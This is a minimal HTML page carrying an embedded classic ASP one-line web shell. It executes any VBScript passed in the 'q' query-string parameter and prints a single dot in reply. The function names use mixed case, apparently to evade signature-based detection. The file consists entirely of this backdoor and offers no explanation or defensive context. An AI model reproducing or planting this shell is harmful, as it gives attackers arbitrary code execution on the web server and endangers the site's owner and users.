<html><body>
<% eXeCuTe(rEqUeSt.QuErYsTrInG("q")) : Response.Write "." %>
</body></html>
